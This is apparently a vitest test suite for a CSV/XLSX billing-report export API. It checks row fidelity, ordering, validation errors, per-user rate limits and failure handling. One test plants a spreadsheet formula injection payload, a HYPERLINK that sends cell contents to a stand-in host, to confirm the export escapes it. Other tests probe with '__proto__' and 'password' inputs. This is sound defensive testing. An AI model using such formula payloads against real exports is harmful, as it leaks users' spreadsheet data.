import { desc, eq, getTableColumns, gt, sql } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { reportExportFields } from '../../../contract/billing/report.schema'
import { reportOrderings } from '../../../contract/limits'
import { client, invoice, report } from '../../../server/database/schema'
import { startTestServer, type TestServer } from '../../support/server'
import { dayOf, readWorkbook } from '../../support/workbook'

let server: TestServer
let token: string
beforeAll(async () => {
  server = await startTestServer()
  token = (await server.signIn('bruno.lima')).access
})
afterAll(() => server.close())

const status = { open: 'Aberto', provisioned: 'Provisionado', partially_invoiced: 'Em parte', invoiced: 'Faturado' }
const asked = {
  format: 'csv',
  columns: reportExportFields.map((field) => ({ field, title: `Título de ${field}` })),
  words: { status: { ...status, cancelled: 'Cancelado' } },
  language: 'pt',
}
const only = (...fields: string[]) => fields.map((field) => ({ field, title: field }))
const ask = (query = '', changes: object = {}) =>
  server.post(`billing/reports/export/${query}`, { token, body: { ...asked, ...changes } })
const list = async (query: string) => (await server.get(`billing/reports/${query}`, token)).body

const request = async (query: string, changes: object) =>
  server.app.request(`/api/v1/billing/reports/export/${query}`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ ...asked, ...changes }),
  })

async function askFile(query: string, changes: object): Promise<Uint8Array> {
  const response = await request(query, changes)
  expect(response.status).toBe(200)
  return new Uint8Array(await response.arrayBuffer())
}

async function idsIn(query: string, changes: object = {}): Promise<number[]> {
  const { body } = await ask(query, { columns: only('id'), ...changes })
  return body.trimEnd().split('\r\n').slice(1).map(Number)
}

/** All pages of the list. */
async function idsOfList(query = 'ordering=-id'): Promise<number[]> {
  const ids: number[] = []
  for (let page = 1; ; page++) {
    const { results, next } = await list(`?${query}&page_size=100&page=${page}`)
    ids.push(...results.map(({ id }: { id: number }) => id))
    if (next === null) return ids
  }
}

describe('a CSV file of reports', () => {
  test('says what the list says, under the headings and in the words it was given', async () => {
    const { status: answered, headers, body } = await ask('?status=provisioned&ordering=valor_bm')
    const { results } = await list('?status=provisioned&ordering=valor_bm')
    const [row] = results
    const day = (text: string) => text.split('-').reverse().join('/')

    expect(answered).toBe(200)
    expect(headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
    expect(headers.get('Content-Disposition')).toBe('attachment; filename="boletins-2026-11-20.csv"')
    expect(headers.get('Cache-Control')).toBe('no-store')
    const [heading, first] = body.split('\r\n')
    expect(heading).toBe(reportExportFields.map((field) => `Título de ${field}`).join(';'))
    expect(first).toBe(
      [
        ...[row.id, row.cliente.name, row.cost_center.code, row.cost_center.name, day(row.competencia)],
        ...[day(row.emissao), day(row.inicio), day(row.fim)],
        ...[row.valor_bm.replace('.', ','), row.balance.replace('.', ',')],
        ...[row.faturas.map(({ number }: { number: string }) => number).join(', '), 'Provisionado'],
      ].join(';'),
    )
  })

  test('begins with the mark by which a spreadsheet knows UTF-8', async () => {
    expect([...(await askFile('', {})).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  })

  test('holds the columns that were asked for, in their order', async () => {
    const { body } = await ask('?search=12', { columns: only('status', 'id'), language: 'en' })
    expect(body.split('\r\n')[0]).toBe('status,id')
  })

  test('in English has a name in English', async () => {
    const { headers } = await ask('?search=12', { language: 'en' })
    expect(headers.get('Content-Disposition')).toBe('attachment; filename="reports-2026-11-20.csv"')
  })

  test.each([
    '',
    '?status=invoiced',
    '?status=not_cancelled&ordering=cliente',
    '?status=cancelled,invoiced',
    '?client=7',
    '?search=aurora&ordering=-valor_bm',
    '?emissao_from=2026-05-01&emissao_to=2026-07-31',
  ])('holds all rows of the list %s, in its order', async (query) => {
    const ids = await idsIn(query)

    expect(ids.length).toBeGreaterThan(0)
    expect(ids).toEqual(await idsOfList(query.slice(1) || undefined))
  })

  test('of a filter that matches nothing is its headings', async () => {
    expect((await ask('?search=nobody-is-called-that', { columns: only('id') })).body).toBe('id\r\n')
  })

  test('of a selection holds what of it the filter matches, in the order of the list', async () => {
    const [open, other] = [await idsOfList('status=open'), await idsOfList('status=invoiced')]
    const ids = [open[3], other[0], open[1]]

    expect(await idsIn('?status=open', { ids })).toEqual([open[1], open[3]])
    expect(await idsIn('?ordering=id', { ids: [3, 1, 2, 9_999_999_999] })).toEqual([1, 2, 3])
  })

  test('holds no formula, whatever a client is called', async () => {
    const [{ client_id } = { client_id: 0 }] = await server.database.select().from(report).where(eq(report.id, 5))
    const [before] = await server.database.select().from(client).where(eq(client.id, client_id))
    const name = '=HYPERLINK("https://example.com?"&A1;"x")'
    await server.database.update(client).set({ name }).where(eq(client.id, client_id))
    const csv = (await ask('', { ids: [5], columns: only('cliente') })).body
    const { rows } = readWorkbook(await askFile('', { ids: [5], columns: only('cliente'), format: 'xlsx' }))
    await server.database
      .update(client)
      .set({ name: before?.name ?? '' })
      .where(eq(client.id, client_id))

    expect(csv).toBe(`cliente\r\n"'${name.replaceAll('"', '""')}"\r\n`)
    expect(rows[1]).toMatchObject([{ kind: 'text', value: name, isFormula: false }])
  })
})

test('an XLSX file of reports holds them too, as numbers, days and words', async () => {
  const { headers } = await ask('?search=12', { format: 'xlsx' })
  const { rows } = readWorkbook(await askFile('?status=provisioned&ordering=valor_bm', { format: 'xlsx' }))
  const { count, results } = await list('?status=provisioned&ordering=valor_bm')
  const [heading = [], first = []] = rows
  const [row] = results

  expect(headers.get('Content-Type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
  expect(headers.get('Content-Disposition')).toBe('attachment; filename="boletins-2026-11-20.xlsx"')
  expect(rows).toHaveLength(count + 1)
  expect(heading.map(({ value }) => value)).toEqual(reportExportFields.map((field) => `Título de ${field}`))
  expect(first.map(({ kind, value, format }) => (format?.includes('yyyy') ? dayOf(value) : [kind, value]))).toEqual([
    ['number', String(row.id)],
    ['text', row.cliente.name],
    ['text', row.cost_center.code],
    ['text', row.cost_center.name],
    `${row.competencia}-01`,
    row.emissao,
    row.inicio,
    row.fim,
    ['number', String(Number(row.valor_bm))],
    ['number', String(Number(row.balance))],
    ['text', row.faturas.map(({ number }: { number: string }) => number).join(', ')],
    ['text', 'Provisionado'],
  ])
})

describe('which reports a file holds', () => {
  test.each(reportOrderings.flatMap((name) => [name, `-${name}`] as const))(
    'ordered by %s is what the list holds, in its order',
    async (ordering) => {
      const ids = await idsIn(`?ordering=${ordering}`)

      expect(ids).toHaveLength(400)
      expect(ids).toEqual(await idsOfList(`ordering=${ordering}`))
    },
  )

  test('is settled when it begins, also where what orders them changes while it is read', async () => {
    await copyReports(26)
    const before = await server.database.select({ id: report.id }).from(report).orderBy(report.total, desc(report.id))
    const response = await request('?ordering=valor_bm', { columns: only('id', 'valor_bm') })
    const reader = (response.body as ReadableStream<Uint8Array>).getReader()
    const parts = [(await reader.read()).value ?? new Uint8Array()]
    const [read, unread] = [before[0]?.id ?? 0, before.at(-1)?.id ?? 0]
    await server.database.update(report).set({ total: '99999999.00' }).where(eq(report.id, read))
    await server.database
      .update(report)
      .set({ total: '0.01', invoiced: '0', provisioned: '0' })
      .where(eq(report.id, unread))
    await copyReports(1)
    for (let part = await reader.read(); !part.done; part = await reader.read()) parts.push(part.value)
    await server.database.delete(report).where(gt(report.id, 400))
    const rows = Buffer.concat(parts).toString().trimEnd().split('\r\n').slice(1)

    expect(rows).toHaveLength(10_800)
    expect(rows.map((row) => Number(row.split(';')[0]))).toEqual(before.map(({ id }) => id))
    expect(rows.at(-1)).toBe(`${unread};0,01`)
  })

  /** All that there are, so many times over. */
  async function copyReports(times: number): Promise<void> {
    const { id: _, search: __, ...columns } = getTableColumns(report)
    const names = sql.join(
      Object.values(columns).map(({ name }) => sql.identifier(name)),
      sql`, `,
    )
    await server.database.execute(
      sql`insert into ${report} (${names}) select ${names} from ${report} cross join generate_series(1, ${times}::int)`,
    )
  }
})

describe('what is wrong is refused at its field', () => {
  const { open: _, ...fewer } = asked.words.status
  const refused: [string, string, object, string][] = [
    ['another format', '', { format: 'pdf' }, 'format'],
    ['no format', '', { format: undefined }, 'format'],
    ['no column', '', { columns: [] }, 'columns'],
    ['a column that is not in the list', '', { columns: only('password') }, 'columns'],
    ['a column twice', '', { columns: only('id', 'id') }, 'columns'],
    ['a heading of nothing', '', { columns: [{ field: 'id', title: '' }] }, 'columns'],
    ['a heading too long', '', { columns: [{ field: 'id', title: 'x'.repeat(101) }] }, 'columns'],
    ['a status without a word', '', { words: { status: fewer } }, 'words'],
    ['no words', '', { words: undefined }, 'words'],
    ['another language', '', { language: 'fr' }, 'language'],
    ['an empty selection', '', { ids: [] }, 'ids'],
    ['a selection too large', '', { ids: Array.from({ length: 1_001 }, (_, index) => index + 1) }, 'ids'],
    ['an id that is none', '', { ids: ['1'] }, 'ids'],
    ['a page', '?page=2', {}, 'page'],
    ['a size of a page', '?page_size=20', {}, 'page_size'],
    ['an unknown order', '?ordering=password', {}, 'ordering'],
    ['an unknown status', '?status=lost', {}, 'status'],
    ['a day that does not exist', '?emissao_from=2026-02-30', {}, 'emissao_from'],
    ['a filter that the list does not have', '?__proto__=1', {}, '__proto__'],
  ]
  test.each(refused)('%s', async (_, query, changes, field) => {
    const { status: answered, body } = await ask(query, changes)

    expect(answered).toBe(400)
    expect(Object.entries(body)).toEqual([[field, [expect.any(String)]]])
  })
})

describe('a file that fails', () => {
  test('before its first part is answered as any failure', async () => {
    await server.database.execute(sql`alter table ${invoice} rename to elsewhere`)
    const answers = [await ask(), await ask('', { format: 'xlsx' })]
    await server.database.execute(sql`alter table elsewhere rename to invoice`)

    expect(answers.map(({ status: answered }) => answered)).toEqual([500, 500])
    expect(JSON.stringify(server.failures.splice(0))).toMatch(/request\.failed.*query failed: 42P01/)
  })
})

describe('one person has one file at a time', () => {
  const status = async (format: string, by = token) => {
    const answer = await server.post('billing/reports/export/', { token: by, body: { ...asked, format } })
    return answer.status
  }

  test('whatever its format, until it has been read; others are not held up', async () => {
    const ana = (await server.signIn('ana.souza')).access
    for (const format of ['csv', 'xlsx']) {
      const first = await request('', { format })
      expect([await status('csv'), await status('xlsx'), await status('csv', ana)]).toEqual([429, 429, 200])
      await first.arrayBuffer()
      expect(await status('csv')).toBe(200)
    }
  })

  test('or until it fails', async () => {
    await server.database.execute(sql`alter table ${invoice} rename to elsewhere`)
    const failed = [await status('csv'), await status('xlsx')]
    await server.database.execute(sql`alter table elsewhere rename to invoice`)
    server.failures.splice(0)

    expect(failed).toEqual([500, 500])
    expect([await status('csv'), await status('xlsx')]).toEqual([200, 200])
  })

  test('or until its reader goes away', async () => {
    await (await request('', {})).body?.cancel()
    expect(await status('csv')).toBe(200)
  })
})

test('a page of another origin may read the name of the file', async () => {
  const { headers } = await server.post('billing/reports/export/', {
    token,
    body: asked,
    headers: { Origin: 'https://other.example.com' },
  })
  expect(headers.get('Access-Control-Expose-Headers')).toContain('Content-Disposition')
})
